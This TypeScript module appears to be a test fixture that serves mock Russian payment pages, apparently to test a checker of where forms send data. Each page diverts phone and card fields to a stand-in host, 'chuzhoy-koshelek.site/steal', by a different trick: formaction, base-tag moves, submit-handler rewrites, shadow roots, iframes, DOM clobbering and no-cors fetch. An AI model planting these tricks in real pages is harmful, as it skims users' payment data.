import type { Route } from '../server.ts'

/** Where the forms below must not arrive unasked. */
export const STRANGER = 'chuzhoy-koshelek.site'

/** An operator's payment page whose form is sent in a way of its own. */
export interface Sending {
  /** Path of the page. */
  path: string
  /** What the page does, in one line. */
  does: string
  /** What stands between `<body>` and `</body>`; `phone` is the id of the field, `pay` that of the button. */
  body: string
}

const FIELDS = `<label>Номер телефона <input id="phone" name="phone" type="tel"></label>
  <label>Номер карты <input name="card" autocomplete="cc-number"></label>`
const FORM = `<form id="form" action="/pay" method="get">${FIELDS} <button id="pay">Оплатить</button></form>`
const BAD = `https://${STRANGER}/steal`
const script = (text: string): string => `<script>${text}</script>`

/** Ways in which a form that looks like the operator's own goes to a stranger. */
export const SENDINGS: readonly Sending[] = [
  {
    path: '/plain',
    does: 'names the stranger in action',
    body: FORM.replace('/pay', BAD),
  },
  {
    path: '/formaction',
    does: 'names the stranger in the button’s formaction',
    body: FORM.replace('<button', `<button formaction="${BAD}"`),
  },
  {
    path: '/formaction-late',
    does: 'writes the button’s formaction at its click',
    body: `${FORM}${script(`pay.onclick = () => pay.setAttribute('formaction', '${BAD}')`)}`,
  },
  {
    path: '/form-attribute',
    does: 'attaches its fields by form= to a form elsewhere',
    body: `${FIELDS.replaceAll('<input', '<input form="far"')}<form id="far" action="${BAD}"></form>
      <button id="pay" form="far">Оплатить</button>`,
  },
  {
    path: '/base',
    does: 'moves its whole base',
    body: `<base href="https://${STRANGER}/">${FORM.replace('/pay', 'steal')}`,
  },
  {
    path: '/base-late',
    does: 'moves its base at submit',
    body: `${FORM.replace('"/pay"', '"steal"')}${script(`form.onsubmit = () => {
      const base = document.createElement('base'); base.href = 'https://${STRANGER}/'; document.head.prepend(base) }`)}`,
  },
  {
    path: '/submit-handler',
    does: 'changes the action in its submit handler',
    body: `${FORM}${script(`form.addEventListener('submit', () => { form.action = '${BAD}' })`)}`,
  },
  {
    path: '/submit-capture',
    does: 'changes the action in a submit handler that comes before ours',
    body: `${script(`addEventListener('submit', (event) => { event.target.action = '${BAD}' }, true)`)}${FORM}`,
  },
  {
    path: '/by-script',
    does: 'sends it by form.submit(), which fires no submit event',
    body: `${FORM.replace('<button', '<button type="button"')}${script(`pay.onclick = () => { form.action = '${BAD}'; form.submit() }`)}`,
  },
  {
    path: '/made-by-script',
    does: 'copies the fields into a form made that moment and submits it',
    body: `${FORM.replace('<button', '<button type="button"')}${script(`pay.onclick = () => {
      const made = document.createElement('form'); made.action = '${BAD}';
      made.append(...form.querySelectorAll('label')); document.body.append(made); made.submit() }`)}`,
  },
  {
    path: '/button-before',
    does: 'sends it by script although a harmless button was pressed',
    body: `${FORM.replace('<button', '<button formaction="/pay"')}${script(`form.onsubmit = (event) => {
      event.preventDefault(); form.action = '${BAD}'; form.submit() }`)}`,
  },
  {
    path: '/shadow',
    does: 'stands in a closed shadow root, which no submit event leaves',
    body: `<div id="host"></div>${script(`window.root = document.getElementById('host').attachShadow({ mode: 'closed' });
      root.innerHTML = \`${FORM.replace('/pay', BAD)}\``)}`,
  },
  {
    path: '/frame',
    does: 'stands in a frame of the page',
    body: `<iframe id="frame" width="600" height="200" srcdoc="${FORM.replace('/pay', BAD).replace(/"/g, '&quot;')}"></iframe>
      ${script('addEventListener("load", () => { window.root = frame.contentDocument })')}`,
  },
  {
    path: '/clobbered',
    does: 'names its fields like everything a form is read by',
    body: FORM.replace('/pay', BAD).replace(
      '<button',
      `${[
        'action',
        'method',
        'getAttribute',
        'elements',
        'querySelectorAll',
        'addEventListener',
        'submit',
        'requestSubmit',
        'setAttribute',
        'localName',
        'parentElement',
        'ownerDocument',
        'replaceWith',
      ]
        .map((name) => `<input type="hidden" name="${name}" value="/pay">`)
        .join('')}<button`,
    ),
  },
]

const FETCH = `fetch('${BAD}?' + phone.value, { mode: 'no-cors' })`

/** Ways that nobody can read beforehand; `state` is what the check of the target may say at most. */
export const UNREADABLE: readonly (Sending & { state: 'notChecked' | 'passed' })[] = [
  {
    path: '/no-form',
    does: 'has fields without a form and sends them by script',
    body: `${FIELDS}<button id="pay">Оплатить</button>${script(`pay.onclick = () => ${FETCH}`)}`,
    state: 'notChecked',
  },
  {
    path: '/javascript',
    does: 'has a script for an action',
    body: FORM.replace('/pay', `javascript:${FETCH.replace(/"/g, '')}`),
    state: 'notChecked',
  },
  {
    path: '/fetch',
    does: 'keeps its form and sends the fields by script',
    body: `${FORM}${script(`form.onsubmit = (event) => { event.preventDefault(); ${FETCH} }`)}`,
    state: 'passed',
  },
]

/** Types a number and presses "pay"; the test can't reach into a closed root, nor past clobbered forms. */
const HANDS = script(`const inside = (id) => (window.root ?? document).getElementById(id);
  window.fill = (text) => { inside('phone').focus(); inside('phone').value = text };
  window.send = () => inside('pay').click()`)

const HEAD = '<!doctype html><html lang="ru"><meta charset="utf-8"><title>Пополнение счёта</title>'

/** Serves the pages above under any host, and says "taken" wherever a form arrives. */
export const sendingRoute: Route = ({ path }) => {
  if (path === '/pay' || path === '/steal') return '<!doctype html><title>taken</title>'
  const found = [...SENDINGS, ...UNREADABLE].find((one) => one.path === path)
  if (found) return `${HEAD}<body><h1>Пополнение счёта</h1>${found.body}${HANDS}</body></html>`
  return path === '/honest'
    ? `${HEAD}<body><h1>Пополнение счёта</h1>${FORM}${HANDS}</body></html>`
    : undefined
}
